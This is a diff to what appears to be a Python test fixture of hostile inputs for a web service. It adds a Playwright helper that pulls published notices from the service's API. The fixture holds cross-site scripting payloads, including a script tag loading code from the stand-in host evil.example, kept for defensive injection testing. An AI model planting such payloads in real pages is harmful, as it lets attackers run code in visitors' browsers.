@@ -1,5 +1,9 @@
 """Texts that try to become code, links, forms or something else than they look like."""
 
+from collections.abc import Iterator
+
+from playwright.sync_api import Page
+
 PAYLOADS = (
     "<script>window.harmed=1</script>",
     "<ScRiPt src=//evil.example/x.js></ScRiPt>",
@@ -180,3 +184,21 @@ _UNSEEN = (
 HOSTILE = (*PAYLOADS, *_MARKDOWN, *_HTML, *_ENCODED, *_UNSEEN)
 # A notice has one sentence on one line.
 IN_A_NOTICE = tuple(" ".join(payload.split("\n")) for payload in HOSTILE)
+
+
+def published_words(page: Page, site: str) -> str:
+    """All that the service publishes of its measures; ingest leaves out what nobody would see."""
+    notices = page.request.get(f"{site}/api/v1/notices").json()["notices"]
+    whole = (page.request.get(f"{site}/api/v1/notices/{n['id']}").json() for n in notices)
+    return "\n".join(word for notice in whole for word in _words(notice["chapters"]))
+
+
+def _words(value: object) -> Iterator[str]:
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for one in value.values():
+            yield from _words(one)
+    elif isinstance(value, list):
+        for one in value:
+            yield from _words(one)
